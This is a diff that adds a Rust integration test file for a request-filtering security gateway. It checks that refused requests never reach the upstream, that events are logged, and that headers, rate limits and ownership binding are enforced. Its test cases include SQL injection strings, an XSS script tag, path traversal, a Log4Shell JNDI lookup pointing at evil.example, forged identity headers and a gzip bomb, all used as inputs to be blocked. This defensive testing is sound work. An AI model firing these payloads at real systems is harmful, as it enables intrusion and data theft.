@@ -1,0 +1,286 @@
+//! For every door: what it refuses never reaches the upstream, and the operator finds an event.
+
+use std::os::unix::fs::PermissionsExt;
+
+use jsonwebtoken::{EncodingKey, Header, encode};
+use serde_json::json;
+
+use crate::support::{Recorder, Running, status};
+
+const SECRET: &str = "0123456789abcdef0123456789abcdef0123456789";
+
+/// A refused request: door, policy, method, target, headers, body, status.
+struct Case {
+    door: &'static str,
+    policy: &'static str,
+    request: (&'static str, &'static str, &'static [(&'static str, &'static str)], &'static str),
+    status: u16,
+}
+
+const JSON: (&str, &str) = ("Content-Type", "application/json");
+
+fn cases() -> Vec<Case> {
+    let case = |door, policy, request, status| Case { door, policy, request, status };
+    vec![
+        case("protocol", "", ("GET", "/a/../b", &[][..], ""), 400),
+        case("protocol", "", ("GET", "/a%2fb", &[], ""), 400),
+        case("protocol", "", ("TRACE", "/", &[], ""), 405),
+        case("protocol", "", ("POST", "/", &[JSON], r#"{"a":1,"a":2}"#), 400),
+        case("protocol", "", ("POST", "/", &[("Content-Encoding", "lzma")], "x"), 415),
+        case("protocol", "[protocol]\nmax_body = '10 B'", ("POST", "/", &[], "more than ten bytes"), 413),
+        case(
+            "protocol",
+            "[protocol]\nunderscore_headers = 'refuse'",
+            ("GET", "/", &[("Content_Length", "5")], ""),
+            400,
+        ),
+        case("network", "", ("GET", "/", &[("User-Agent", "")], ""), 403),
+        case("network", "[network]\ndeny = ['127.0.0.0/8']", ("GET", "/", &[], ""), 403),
+        case("network", "[network]\nallow = ['192.0.2.0/24']", ("GET", "/", &[], ""), 403),
+        case(
+            "cors",
+            "",
+            (
+                "OPTIONS",
+                "/",
+                &[("Origin", "https://evil.example"), ("Access-Control-Request-Method", "POST")],
+                "",
+            ),
+            403,
+        ),
+        case("cors", "", ("POST", "/", &[("Origin", "https://evil.example"), ("Cookie", "s=1")], "a=b"), 403),
+        case("cors", "", ("POST", "/", &[("Sec-Fetch-Site", "cross-site"), ("Cookie", "s=1")], "a=b"), 403),
+        case(
+            "authentication",
+            "[auth]\nrequire = 'required'\n[[auth.api_key]]\nsubject = 'a'\nsha256 = '0000000000000000000000000000000000000000000000000000000000000000'",
+            ("GET", "/", &[], ""),
+            401,
+        ),
+        case(
+            "authentication",
+            "[[auth.api_key]]\nsubject = 'a'\nsha256 = '0000000000000000000000000000000000000000000000000000000000000000'",
+            ("GET", "/", &[("X-Api-Key", "guess")], ""),
+            401,
+        ),
+        case(
+            "schema",
+            "[[route]]\npath = '/p'\nfields = ['name']\nunknown_properties = 'refuse'",
+            ("POST", "/p", &[JSON], r#"{"name":"x","role":"admin"}"#),
+            422,
+        ),
+        case("injection", "", ("GET", "/?q=%27%20OR%20%271%27=%271", &[], ""), 403),
+        case("injection", "", ("GET", "/users/1%20OR%201=1", &[], ""), 403),
+        case("injection", "", ("POST", "/", &[JSON], r#"{"a":[{"b":"<script>alert(1)</script>"}]}"#), 403),
+        case(
+            "injection",
+            "",
+            (
+                "POST",
+                "/",
+                &[("Content-Type", "application/x-www-form-urlencoded")],
+                "a=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+            ),
+            403,
+        ),
+        case("injection", "", ("GET", "/", &[("X-Api-Version", "${jndi:ldap://evil.example/a}")], ""), 403),
+    ]
+}
+
+#[test]
+fn what_a_door_refuses_never_reaches_the_upstream() {
+    let upstream = Recorder::plain();
+    for Case { door, policy, request: (method, target, headers, body), status: expected } in cases() {
+        let gate = Running::start(policy, &[upstream.url()]);
+        let answer = gate.ask(method, target, headers, body.as_bytes());
+        assert_eq!(status(&answer), expected, "{door} {method} {target}: {answer}");
+        assert_eq!(upstream.take(), "", "{door} {method} {target} reached the upstream");
+        assert!(
+            gate.events.has(&[&format!("\"door\":\"{door}\""), "\"verdict\":\"refused\""]),
+            "{door}: {:?}",
+            gate.events.all()
+        );
+        assert!(
+            answer.to_lowercase().contains("x-content-type-options: nosniff"),
+            "a refusal carries the security headers: {answer}"
+        );
+        assert!(answer.contains("application/problem+json"), "{answer}");
+    }
+}
+
+#[test]
+fn an_observing_door_logs_and_changes_nothing() {
+    let upstream = Recorder::plain();
+    let observe = "[doors]\nprotocol='observe'\nnetwork='observe'\ncors='observe'\nschema='observe'\ninjection='observe'\n";
+    for case in cases().into_iter().filter(|c| ["network", "injection", "schema"].contains(&c.door)) {
+        let gate = Running::start(&format!("{observe}{}", case.policy), &[upstream.url()]);
+        let (method, target, headers, body) = case.request;
+        let answer = gate.ask(method, target, headers, body.as_bytes());
+        assert_eq!(status(&answer), 200, "{method} {target}: {answer}");
+        assert!(upstream.take().contains(body), "the body is as it was sent");
+        assert!(gate.events.has(&["would-refuse"]), "{:?}", gate.events.all());
+    }
+}
+
+#[test]
+fn what_is_stripped_does_not_reach_the_upstream_and_the_rest_does() {
+    let upstream = Recorder::plain();
+    let gate = Running::start("[[route]]\npath = '/p'\nfields = ['name', 'bio']", &[upstream.url()]);
+    let answer = gate.ask("POST", "/p", &[JSON], br#"{"name":"O'Brien","role":"admin","bio":"x"}"#);
+    assert_eq!(status(&answer), 200);
+    let seen = upstream.take();
+    assert!(seen.ends_with(r#"{"name":"O'Brien","bio":"x"}"#) && !seen.contains("role"), "{seen}");
+    assert!(gate.events.has(&["unknown-property", "/role"]));
+}
+
+#[test]
+fn limits_hold_exactly_and_cannot_be_reset_by_headers() {
+    let upstream = Recorder::plain();
+    let gate = Running::start("[rate]\nlimits = ['5 per hour']", &[upstream.url()]);
+    for i in 0..8 {
+        let address = format!("198.51.100.{i}");
+        let answer = gate.ask(
+            "GET",
+            "/",
+            &[("X-Forwarded-For", &address), ("Forwarded", &format!("for={address}"))],
+            b"",
+        );
+        assert_eq!(status(&answer), if i < 5 { 200 } else { 429 }, "{i}: {answer}");
+        if i >= 5 {
+            assert!(answer.to_lowercase().contains("retry-after: "), "{answer}");
+        }
+    }
+    assert_eq!(upstream.take().matches("GET /").count(), 5);
+}
+
+#[test]
+fn only_failed_logins_count() {
+    let fine = Recorder::plain();
+    let gate = Running::start("", &[fine.url()]);
+    for _ in 0..20 {
+        assert_eq!(status(&gate.ask("POST", "/api/login", &[JSON], b"{}")), 200);
+    }
+    let wrong = Recorder::start("HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n");
+    let gate = Running::start("", &[wrong.url()]);
+    let answers: Vec<u16> = (0..7).map(|_| status(&gate.ask("POST", "/api/login", &[JSON], b"{}"))).collect();
+    assert_eq!(answers, [401, 401, 401, 401, 401, 429, 429]);
+    assert_eq!(wrong.take().matches("POST /").count(), 5);
+}
+
+/// A directory with a secret, and a token for a subject.
+fn issuer() -> (tempfile::TempDir, impl Fn(&str) -> String) {
+    let directory = tempfile::tempdir().unwrap();
+    let secret = directory.path().join("secret");
+    std::fs::write(&secret, SECRET).unwrap();
+    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
+    let token = |subject: &str| {
+        let claims = json!({ "sub": subject, "exp": 4_000_000_000u64, "iat": 1_700_000_000u64 });
+        let token =
+            encode(&Header::default(), &claims, &EncodingKey::from_secret(SECRET.as_bytes())).unwrap();
+        format!("Bearer {token}")
+    };
+    (directory, token)
+}
+
+const ISSUER: &str = "[[auth.issuer]]\n[[auth.issuer.key]]\nalgorithm = 'HS256'\nsecret_file = 'secret'\n";
+
+fn owned(directory: &tempfile::TempDir, routes: &str, upstream: &Recorder) -> Running {
+    let file = directory.path().join("doorward.toml");
+    std::fs::write(&file, format!("{ISSUER}{routes}")).unwrap();
+    Running::from_file(&file, &[upstream.url()])
+}
+
+#[test]
+fn a_bound_id_of_somebody_else_never_reaches_the_upstream() {
+    let (directory, token) = issuer();
+    let upstream = Recorder::plain();
+    let gate = owned(&directory, "[[route]]\npath = '/users/{id}'\nbind = { 'path.id' = 'sub' }", &upstream);
+    assert_eq!(status(&gate.ask("GET", "/users/7", &[("Authorization", &token("7"))], b"")), 200);
+    assert!(upstream.take().contains("x-doorward-subject: 7"));
+    for (target, subject, expected) in
+        [("/users/8", Some("7"), 404), ("/users/7", None, 401), ("/users/07", Some("7"), 404)]
+    {
+        let header = subject.map(&token).unwrap_or_default();
+        let forged = [("Authorization", header.as_str()), ("X-Doorward-Subject", "8")];
+        assert_eq!(status(&gate.ask("GET", target, &forged, b"")), expected, "{target}");
+        assert_eq!(upstream.take(), "");
+    }
+    assert!(gate.events.has(&["\"door\":\"ownership\"", "\"rule\":\"bind\"", "\"principal\":\"7\""]));
+}
+
+#[test]
+fn no_byte_of_a_foreign_object_leaves() {
+    let (directory, token) = issuer();
+    let one = Recorder::start(
+        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 30\r\nETag: \"1\"\r\n\r\n{\"user_id\":8,\"note\":\"marker1\"}",
+    );
+    let list = Recorder::start(
+        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n1d\r\n[{\"user_id\":7},{\"user_id\":8,\"\r\n12\r\nnote\":\"marker1\"}] \r\n0\r\n\r\n",
+    );
+    let routes = "[[route]]\npath = '/orders/**'\nowner = { field = '/user_id' }";
+    for (upstream, expected, kept) in [(&one, 404, ""), (&list, 200, "[{\"user_id\":7}]")] {
+        let gate = owned(&directory, routes, upstream);
+        let headers = [
+            ("Authorization", token("7")),
+            ("Range", "bytes=0-10".into()),
+            ("Accept-Encoding", "gzip".into()),
+        ];
+        let headers: Vec<(&str, &str)> = headers.iter().map(|(n, v)| (*n, v.as_str())).collect();
+        let answer = gate.ask("GET", "/orders/1", &headers, b"");
+        assert_eq!(status(&answer), expected, "{answer}");
+        assert!(!answer.contains("marker1") && answer.contains(kept), "{answer}");
+        let sent = upstream.take().to_lowercase();
+        assert!(!sent.contains("range:") && sent.contains("accept-encoding: identity"), "{sent}");
+        assert_eq!(
+            status(&gate.ask("HEAD", "/orders/1", &headers, b"")),
+            expected,
+            "a HEAD tells no more than a GET"
+        );
+    }
+}
+
+#[test]
+fn every_answer_carries_the_guides_headers_and_hardened_cookies() {
+    let upstream = Recorder::start(
+        "HTTP/1.1 200 OK\r\nServer: nginx/1.2\r\nX-Powered-By: PHP/5\r\nSet-Cookie: s=1; Path=/\r\nX-Frame-Options: ALLOWALL\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n",
+    );
+    let gate =
+        Running::start("[cors]\norigins = ['https://app.example']\ncredentials = true", &[upstream.url()]);
+    let answer = gate.ask("GET", "/", &[("Origin", "https://app.example")], b"");
+    for line in [
+        "x-content-type-options: nosniff",
+        "x-frame-options: DENY",
+        "x-xss-protection: 0",
+        "referrer-policy: strict-origin-when-cross-origin",
+        "content-security-policy: default-src 'self'",
+        "permissions-policy: camera=(), microphone=(), geolocation=()",
+        "set-cookie: s=1; Path=/; HttpOnly; Secure; SameSite=Lax",
+        "access-control-allow-origin: https://app.example",
+        "access-control-allow-credentials: true",
+        "vary: Origin",
+    ] {
+        assert!(answer.contains(line), "{line} is missing: {answer}");
+    }
+    for line in ["server:", "x-powered-by", "access-control-allow-origin: *", "strict-transport-security"] {
+        assert!(!answer.contains(line), "{line} is there: {answer}");
+    }
+    let foreign = gate.ask("GET", "/", &[("Origin", "https://app.example.evil.example")], b"");
+    assert!(!foreign.contains("access-control-allow") && foreign.contains("vary: Origin"), "{foreign}");
+}
+
+#[test]
+fn compressed_bodies_are_judged_by_what_they_say() {
+    use std::io::Write;
+    let gzip = |text: &[u8]| {
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        encoder.write_all(text).unwrap();
+        encoder.finish().unwrap()
+    };
+    let upstream = Recorder::plain();
+    let gate = Running::start("", &[upstream.url()]);
+    let headers = [JSON, ("Content-Encoding", "gzip")];
+    assert_eq!(status(&gate.ask("POST", "/", &headers, &gzip(b"{\"a\":\"fine\"}"))), 200);
+    upstream.take();
+    assert_eq!(status(&gate.ask("POST", "/", &headers, &gzip(b"{\"a\":\"' OR '1'='1\"}"))), 403);
+    assert_eq!(status(&gate.ask("POST", "/", &headers, &gzip(&vec![b' '; 20_000_000]))), 415, "a bomb");
+    assert_eq!(upstream.take(), "");
+}
